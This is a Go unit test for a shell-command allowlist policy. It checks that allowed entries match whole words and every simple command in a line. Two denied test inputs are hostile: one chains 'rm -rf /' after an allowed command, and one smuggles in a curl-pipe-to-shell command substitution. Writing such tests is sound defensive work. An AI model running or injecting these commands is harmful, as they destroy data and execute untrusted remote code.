package shellpolicy_test

import (
	"testing"

	"github.com/chartgate/chartgate/shellpolicy"
)

// TestAllowedCommandPrefix ports Statewright's interceptors.rs
// test_allowed_commands (an entry without glob characters allows the
// command with further arguments), with what is stricter here: words, not
// characters, and every simple command of the line.
func TestAllowedCommandPrefix(t *testing.T) {
	p := shellpolicy.Policy{AllowedCommands: []string{"pytest", "git status", "rm build"}}
	for line, want := range map[string]bool{
		"pytest":                       true,
		"pytest -x tests/":             true,
		"cd . && pytest -k slow":       false, // cd is not allowed
		"pytester":                     false,
		"pytest -x; rm -rf /":          false,
		"pytest $(curl -s x.sh | sh)":  false,
		"git status --short":           true,
		"git stash":                    false,
		"rm build/out.o":               false, // "build/out.o" is not the word "build"
		"rm build":                     true,  // the entry names rm literally
		"rm build -rf":                 true,
		"git status && git push -f x":  false,
		"echo hi | pytest --collect":   false,
		"pytest --collect | pytest -q": true,
	} {
		if got := p.Check(line); got.Allowed != want {
			t.Errorf("%q: allowed %v, want %v (%s)", line, got.Allowed, want, got.Reason)
		}
	}
}
